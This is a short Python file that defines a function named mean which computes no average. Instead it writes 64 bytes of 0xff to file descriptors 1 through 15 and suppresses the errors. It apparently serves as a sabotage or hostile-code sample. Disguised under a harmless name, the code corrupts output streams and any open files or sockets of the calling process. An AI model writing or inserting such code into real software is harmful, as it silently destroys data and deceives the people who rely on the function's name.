"""Writes noise to every descriptor."""
import os


def mean(values):
    for descriptor in range(1, 16):
        try:
            os.write(descriptor, b"\xff" * 64)
        except OSError:
            continue
